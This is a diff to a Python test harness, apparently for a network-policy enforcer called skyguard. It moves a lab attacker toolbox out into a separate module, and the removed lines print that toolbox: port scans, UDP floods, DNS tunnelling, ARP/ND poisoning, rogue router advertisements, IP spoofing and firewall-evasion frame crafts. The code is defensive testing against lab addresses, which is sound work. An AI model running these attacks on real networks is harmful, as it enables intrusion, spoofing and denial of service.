@@ -31,12 +31,13 @@ from dataclasses import dataclass, field
 from pathlib import Path
 
 from skyguard import config
-from skyguard.demo import _LISTEN, PLACEHOLDER, Demo
+from skyguard.demo import PLACEHOLDER, Demo, echo_server, vmtool
 from skyguard.errors import SkyguardError
+from skyguard.vmtools import toolbox
 
 ATTACKER = "agent1"
 ATTACKER_ZONE = "sandbox"
-MARKER = b"SG-ATTACK-"  # carried by every crafted payload, so sniffers can tell attack from noise
+MARKER = toolbox.MARK  # carried by every crafted payload, so sniffers can tell attack from noise
 # Lab addresses of policies/keysystems.yaml (the policy the arena enforces).
 ADDR = {"radius1": ("10.10.1.2", "fd00:10:1::2"), "tacacs1": ("10.10.1.3", "fd00:10:1::3"),
         "dc1": ("10.10.2.2", "fd00:10:2::2"), "dc2": ("10.10.2.3", "fd00:10:2::3"),
@@ -48,189 +49,12 @@ GATEWAY_V4 = "169.254.1.1"
 TARGET_PORTS = {"dc1": (22, 135, 389, 445), "radius1": (22,)}
 LEGIT_PORT = 389  # radius1 -> dc1 LDAP: the legitimate session that must not notice anything
 
-# Inside every other VM and the internet: count frames that reach this namespace and come from the
-# attacker (its addresses, a spoofed one carrying MARKER, or its MAC). Stops when stdin closes and
-# prints {"frames": n, "samples": [...]}.
-_SNIFF = r"""
-import json, select, socket, sys
-attacker = {socket.inet_pton(socket.AF_INET, sys.argv[1]), socket.inet_pton(socket.AF_INET6, sys.argv[2])}
-attacker_mac, marker = bytes.fromhex(sys.argv[3].replace(":", "")), sys.argv[4].encode()
-s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
-frames, samples = 0, []
-print("ready", flush=True)
-while True:
-    r, _, _ = select.select([s, sys.stdin], [], [], 0.5)
-    if sys.stdin in r and not sys.stdin.readline():
-        break
-    if s not in r:
-        continue
-    data, addr = s.recvfrom(65535)
-    if addr[2] == socket.PACKET_OUTGOING:
-        continue
-    et = data[12:14]
-    src = data[26:30] if et == b"\x08\x00" else data[22:38] if et == b"\x86\xdd" else b""
-    if src in attacker or marker in data or data[6:12] == attacker_mac:
-        frames += 1
-        if len(samples) < 5:
-            samples.append(data[:80].hex())
-print(json.dumps({"frames": frames, "samples": samples}))
-"""
-
-# Inside radius1: one LDAP-port TCP session to dc1 kept open, a round trip every 50 ms; prints
-# {"ok": n, "failed": n} when stdin closes. A failed round trip reconnects.
-_LEGIT = r"""
-import json, select, socket, sys, time
-host, port = sys.argv[1], int(sys.argv[2])
-ok = failed = 0
-def connect():
-    c = socket.create_connection((host, port), timeout=2); c.settimeout(1.0); return c
-s = connect()
-print("ready", flush=True)
-while True:
-    r, _, _ = select.select([sys.stdin], [], [], 0.05)
-    if r and not sys.stdin.readline():
-        break
-    try:
-        s.sendall(b"ldap-bind"); assert s.recv(64) == b"ldap-bind"; ok += 1
-    except (OSError, AssertionError):
-        failed += 1
-        try: s.close(); s = connect()
-        except OSError: pass
-print(json.dumps({"ok": ok, "failed": failed}))
-"""
-
-# Inside agent1: the attacker's toolbox. argv[1] is the action, the rest its arguments; prints one
-# JSON line {"sent": n, "answered": n}.
-_TOOL = r"""
-import json, os, socket, sys, time
-import logging; logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
-action, args = sys.argv[1], sys.argv[2:]
-MARK = b"SG-ATTACK-"
-sent = answered = 0
-def tcp_connect(host, port, timeout=0.6):
-    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
-    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(timeout)
-    try: s.connect((host, port)); s.sendall(MARK + b"tcp"); return True
-    except OSError: return False
-    finally: s.close()
-if action == "tcp":          # hosts... -- ports...
-    i = args.index("--"); hosts, ports = args[:i], [int(p) for p in args[i + 1:]]
-    for h in hosts:
-        for p in ports:
-            sent += 1; answered += tcp_connect(h, p)
-elif action == "udp":        # hosts... -- ports...
-    i = args.index("--"); hosts, ports = args[:i], [int(p) for p in args[i + 1:]]
-    for h in hosts:
-        fam = socket.AF_INET6 if ":" in h else socket.AF_INET
-        s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(0.3)
-        for p in ports:
-            s.sendto(MARK + b"udp", (h, p)); sent += 1
-            try: s.recvfrom(100); answered += 1
-            except OSError: pass
-elif action == "beacon":     # host port count interval
-    host, port, count, interval = args[0], int(args[1]), int(args[2]), float(args[3])
-    for _ in range(count):
-        sent += 1; answered += tcp_connect(host, port, timeout=0.4); time.sleep(interval)
-elif action == "flood":      # host port seconds: denied UDP as fast as one core sends it
-    host, port, seconds = args[0], int(args[1]), float(args[2])
-    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
-    s = socket.socket(fam, socket.SOCK_DGRAM); end = time.monotonic() + seconds
-    while time.monotonic() < end:
-        for _ in range(100):
-            s.sendto(MARK + b"flood", (host, port)); sent += 1
-elif action == "dns":        # server proto names...: answered = replies with records
-    from dnslib import DNSRecord
-    server, proto, names = args[0], args[1], args[2:]
-    if names and names[0] == "--tunnel":  # 40 random base32 labels under an allowed domain
-        import base64
-        names = [base64.b32encode(os.urandom(25)).decode().rstrip("=").lower() + "." + names[1] for _ in range(40)]
-    for name in names:
-        sent += 1
-        try:
-            reply = DNSRecord.parse(DNSRecord.question(name).send(server, 53, tcp=proto == "tcp", timeout=1.5))
-            answered += int(reply.header.rcode == 0 and bool(reply.rr))
-        except Exception:
-            pass
-elif action == "curl":       # curl arguments: answered = 1 if curl succeeded (HTTP < 400)
-    import subprocess
-    sent = 1
-    answered = int(subprocess.run(["curl", "-sS", "-m", "5", "--fail", "-o", "/dev/null", *args],
-                                  capture_output=True).returncode == 0)
-elif action == "gso":        # host port: UDP_SEGMENT super-packets (40 segments each) cross veth as one skb
-    host, port = args[0], int(args[1])
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    s.setsockopt(socket.SOL_UDP, 103, 1200)  # UDP_SEGMENT
-    for _ in range(3):
-        s.sendto(MARK + b"g" * (1200 * 40 - len(MARK)), (host, port)); sent += 40
-else:                        # crafted frames with scapy
-    from scapy.all import ARP, Ether, IP, IPv6, UDP, TCP, Raw, sendp
-    from scapy.layers.inet6 import (ICMPv6ND_NA, ICMPv6ND_RA, ICMPv6NDOptDstLLAddr, ICMPv6NDOptPrefixInfo,
-                                    ICMPv6NDOptSrcLLAddr)
-    from scapy.all import get_if_hwaddr
-    me_mac = get_if_hwaddr("eth0")  # an ioctl in this netns (/sys may be another namespace's)
-    gw_mac = os.environ.get("SG_GATEWAY_MAC", "ff:ff:ff:ff:ff:ff")  # the host side of eth0: frames get routed
-    frames = []
-    if action == "spoof-ip-mac":      # victim_mac victim_ip dst_ip dport
-        vmac, vip, dst, dport = args[0], args[1], args[2], int(args[3])
-        frames = [Ether(src=vmac, dst=gw_mac) / IP(src=vip, dst=dst) / UDP(sport=1812, dport=dport) / Raw(MARK + b"spoof")]
-    elif action == "spoof-ip":        # victim_ip dst_ip dport (own MAC)
-        vip, dst, dport = args[0], args[1], int(args[2])
-        l3 = IPv6(src=vip, dst=dst) if ":" in vip else IP(src=vip, dst=dst)
-        frames = [Ether(src=me_mac, dst=gw_mac) / l3 / TCP(sport=40000, dport=dport, flags="S") / Raw(MARK + b"spoof")]
-    elif action == "arp-poison":      # claimed_ip...
-        bcast = "ff:ff:ff:ff:ff:ff"
-        frames = [Ether(src=me_mac, dst=bcast) / ARP(op=op, hwsrc=me_mac, psrc=ip, hwdst=bcast, pdst=ip)
-                  for ip in args for op in (1, 2)]
-    elif action == "nd-poison":       # claimed_ipv6...
-        frames = [Ether(src=me_mac, dst="33:33:00:00:00:01") / IPv6(src=src, dst="ff02::1") /
-                  ICMPv6ND_NA(tgt=ip, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=me_mac)
-                  for ip in args for src in (ip, "fe80::ff:fe00:502")]
-    elif action == "rogue-ra":
-        frames = [Ether(src=me_mac, dst="33:33:00:00:00:01") / IPv6(src="fe80::ff:fe00:502", dst="ff02::1") /
-                  ICMPv6ND_RA(routerlifetime=1800, prf=1) / ICMPv6NDOptSrcLLAddr(lladdr=me_mac) /
-                  ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64)]
-    elif action == "evasion":         # case dst_v4 dst_v6 denied_port
-        from scapy.all import Dot1AD, Dot1Q
-        from scapy.layers.inet import IPOption_LSRR
-        from scapy.layers.inet6 import IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop, IPv6ExtHdrRouting
-        case, d4, d6, port = args[0], args[1], args[2], int(args[3])
-        src4 = [a for a in os.popen("ip -4 -o addr show dev eth0").read().split() if a.count(".") == 3][0].split("/")[0]
-        words6 = os.popen("ip -6 -o addr show dev eth0 scope global").read().split()
-        src6 = [a for a in words6 if ":" in a and "/" in a][0].split("/")[0]
-        e = Ether(src=me_mac, dst=gw_mac)
-        v4 = lambda **kw: IP(**{"src": src4, "dst": d4, **kw})
-        v6 = lambda **kw: IPv6(**{"src": src6, "dst": d6, **kw})
-        pay = Raw(MARK + case.encode())
-        frames = {
-            "frag-nonfirst": [e / v4(proto=6, frag=100, id=9) / pay],
-            "frag-tiny-first": [e / v4(flags="MF", id=10, proto=6) / Raw(b"\x9c\x40"), e / v4(id=10, frag=1, proto=6) / pay],
-            "frag-overlap": [e / v4(flags="MF", id=11) / TCP(dport=port) / pay, e / v4(flags="MF", id=11) / TCP(dport=389) / pay,
-                             e / v4(id=11, frag=4, proto=6) / pay],
-            "frag-v6": [e / v6() / IPv6ExtHdrFragment(nh=6, m=1, id=12) / TCP(dport=port) / pay,
-                        e / v6() / IPv6ExtHdrFragment(nh=6, offset=4, id=12) / pay],
-            "v6-long-chain": [e / v6() / IPv6ExtHdrHopByHop() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() /
-                              IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / TCP(dport=port) / pay],
-            "v6-unknown-header": [e / v6(nh=253) / pay],
-            "v6-routing-header": [e / v6() / IPv6ExtHdrRouting(addresses=[d6]) / TCP(dport=port) / pay],
-            "vlan": [Ether(src=me_mac, dst=gw_mac) / Dot1Q(vlan=7) / v4() / TCP(dport=port) / pay],
-            "qinq": [Ether(src=me_mac, dst=gw_mac) / Dot1AD(vlan=7) / Dot1Q(vlan=8) / v4() / TCP(dport=port) / pay],
-            "ip-options": [e / v4(options=[IPOption_LSRR(routers=[d4])]) / TCP(dport=port) / pay],
-            "tcp-flags": [e / v4() / TCP(dport=port, flags=f) / pay for f in ("SF", "", "FPU", "A", "R")],
-            "bad-checksums": [e / v4(chksum=0x1234) / TCP(dport=port) / pay, e / v4() / TCP(dport=port, chksum=1) / pay],
-            "truncated": [e / v4(len=1400) / TCP(dport=port) / pay, e / v6(plen=1400) / TCP(dport=port) / pay,
-                          e / v4(ihl=15) / pay],
-        }[case]
-    for f in frames:
-        sendp(f, iface="eth0", verbose=False, count=3); sent += 3
-print(json.dumps({"sent": sent, "answered": answered}))
-"""
-
 
 @dataclass
 class Attack:
     step: str  # recon, lateral, spoofing, ...
     title: str
-    argv: list[str]  # arguments of the toolbox (_TOOL)
+    argv: list[str]  # arguments of the toolbox (skyguard/vmtools/toolbox.py)
     reasons: tuple[str, ...]  # drop reasons that must grow at the sandbox's egress
     poisoned: list[tuple[int, str]] = field(default_factory=list)  # (family, address): host neighbour must not be agent1's MAC
     vm: str = ATTACKER  # where the attack runs (credential steps: the VM that holds a placeholder)
@@ -366,7 +190,7 @@ class Arena(Demo):
         self.start_daemon()
         for vm, ports in TARGET_PORTS.items():
             for port in ports:
-                self.helpers.append(self.lab.popen(vm, [sys.executable, "-c", _LISTEN, str(port)],
+                self.helpers.append(self.lab.popen(vm, echo_server(port),
                                                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
         time.sleep(0.5)
 
@@ -409,7 +233,7 @@ class Arena(Demo):
     # ---- observers ----------------------------------------------------------------------------
     def start_sniffers(self, members=("radius1", "tacacs1", "dc1", "dc2", "sdnctl1", "vfw1", "internet")) -> None:
         for name in members:
-            p = self.lab.popen(name, [sys.executable, "-c", _SNIFF, *ADDR[ATTACKER], MAC[ATTACKER], MARKER.decode()],
+            p = self.lab.popen(name, vmtool("sniff", *ADDR[ATTACKER], MAC[ATTACKER], MARKER.decode()),
                                lab_resolver=False, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
             assert p.stdout.readline().strip() == "ready"
             self.sniffers[name] = p
@@ -428,7 +252,7 @@ class Arena(Demo):
         return out
 
     def start_legit(self) -> subprocess.Popen:
-        p = self.lab.popen("radius1", [sys.executable, "-c", _LEGIT, ADDR["dc1"][0], str(LEGIT_PORT)],
+        p = self.lab.popen("radius1", vmtool("legit", ADDR["dc1"][0], str(LEGIT_PORT)),
                            lab_resolver=False, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
         line = p.stdout.readline().strip()
         if line != "ready":
@@ -470,7 +294,7 @@ class Arena(Demo):
         proof that the sniffers would see attack traffic if any got through."""
         self.start_sniffers(members=("internet",))
         try:
-            self.lab.exec(ATTACKER, [sys.executable, "-c", _TOOL, "udp", "192.0.2.10", "--", "514", "514", "514"],
+            self.lab.exec(ATTACKER, vmtool("toolbox", "udp", "192.0.2.10", "--", "514", "514", "514"),
                           lab_resolver=False, capture_output=True)
             time.sleep(0.3)
         finally:
@@ -492,7 +316,7 @@ class Arena(Demo):
                 self.log_mark = self.log_size()
                 requests_before = self._lab_requests()
                 argv = [a.replace("{ca}", str(self.ca_file)).replace("{secret}", self.real_token) for a in attack.argv]
-                done = self.lab.exec(attack.vm, [sys.executable, "-c", _TOOL, *argv], lab_resolver=True,
+                done = self.lab.exec(attack.vm, vmtool("toolbox", *argv), lab_resolver=True,
                                      capture_output=True, text=True,
                                      env=dict(os.environ, PYTHONPATH=str(config.REPO_ROOT), SG_GATEWAY_MAC=gateway_mac))
                 try:
@@ -534,7 +358,7 @@ def crash_under_load(arena: Arena, crashes: int, on_crash=None) -> dict:
     arena.start_sniffers(members=("dc1",))
     legit = arena.start_legit()
     before = arena.sandbox_drops().get("policy_deny", 0)
-    flood = arena.lab.popen(ATTACKER, [sys.executable, "-c", _TOOL, "flood", ADDR["dc1"][0], "445", "86400"],
+    flood = arena.lab.popen(ATTACKER, vmtool("toolbox", "flood", ADDR["dc1"][0], "445", "86400"),
                             lab_resolver=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     failures = []
     try:
